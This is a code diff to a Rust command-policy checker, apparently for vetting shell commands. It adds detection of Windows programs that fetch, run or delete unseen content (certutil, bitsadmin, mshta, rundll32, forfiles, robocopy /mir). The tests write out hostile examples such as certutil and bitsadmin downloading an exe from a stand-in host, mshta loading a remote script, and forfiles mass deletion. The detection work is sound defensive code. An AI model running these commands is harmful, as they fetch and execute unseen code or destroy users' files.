@@ -161,7 +161,56 @@ pub(super) fn unread(words: &[String]) -> Option<String> {
     if matches!(cmd, "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe") && encoded {
         return Some(format!("{cmd} runs an encoded command, which is not read"));
     }
-    windows_admin(cmd, rest)
+    windows_runners(cmd, rest).or_else(|| windows_admin(cmd, rest))
+}
+
+/// Windows programs that fetch, run or delete what the line does not show: the ones
+/// attackers call "living off the land", a loop running a command per file, a mirror that
+/// deletes, and a program name computed from a variable (`%x%`, `!x!`).
+fn windows_runners(cmd: &str, rest: &[String]) -> Option<String> {
+    let has = |prefix: &str| rest.iter().any(|a| a.starts_with(prefix));
+    // `call %x% …` runs the command its words make.
+    if cmd == "call"
+        && let Some((first, more)) = rest.split_first()
+    {
+        return windows_runners(first, more);
+    }
+    if (cmd.starts_with('%') && cmd[1..].contains('%'))
+        || (cmd.starts_with('!') && cmd.len() > 2 && cmd.ends_with('!'))
+    {
+        return Some(format!(
+            "the program {cmd} is a variable, computed when it runs"
+        ));
+    }
+    let why = match cmd.trim_end_matches(".exe") {
+        "certutil"
+            if has("-urlcache")
+                || has("-decode")
+                || has("-encode")
+                || has("-addstore")
+                || has("-delstore") =>
+        {
+            "certutil -urlcache/-decode fetches or unpacks a file the line does not show"
+        }
+        "bitsadmin"
+            if !rest
+                .iter()
+                .any(|a| matches!(a.as_str(), "/list" | "/info" | "/monitor")) =>
+        {
+            "bitsadmin fetches or changes transfers the line does not show"
+        }
+        "mshta" | "rundll32" | "regsvr32" | "installutil" | "cmstp" | "msxsl" | "odbcconf" => {
+            "runs code a library, a URL or a script names, which the policy does not read"
+        }
+        "msiexec" if !rest.is_empty() => "msiexec installs or removes a package",
+        "forfiles" if has("/c") => "forfiles runs a command for each file it finds, not read here",
+        "robocopy" if has("/mir") || has("/purge") => {
+            "robocopy /mir or /purge deletes what the destination has that the source lacks"
+        }
+        "move" if rest.last().is_some_and(|d| d == "nul") => "move to NUL discards what it moves",
+        _ => return None,
+    };
+    Some(why.to_string())
 }
 
 /// The Windows administration programs, passed only with a verb that reads.
@@ -270,6 +319,10 @@ mod tests {
             "net user",
             "sc query",
             "icacls C:\\x",
+            "certutil -hashfile x.zip sha256",
+            "bitsadmin /list",
+            "robocopy src dst /e",
+            "move a.txt b.txt",
         ] {
             assert_eq!(unread(&words(read)), None, "{read}");
         }
@@ -290,6 +343,14 @@ mod tests {
             "icacls C:\\ /grant Everyone:F",
             "takeown /f C:\\Windows",
             "sc stop wuauserv",
+            "certutil -urlcache -f http://x/x.exe x.exe",
+            "bitsadmin /transfer j http://x/x.exe c:\\x.exe",
+            "mshta http://x/x.hta",
+            "rundll32 x.dll,Run",
+            "forfiles /p c:\\ /s /c \"cmd /c del @file\"",
+            "robocopy c:\\empty c:\\users\\me /mir",
+            "%x% /s /q c:\\",
+            "move docs nul",
         ] {
             assert!(unread(&words(changes)).is_some(), "{changes}");
         }
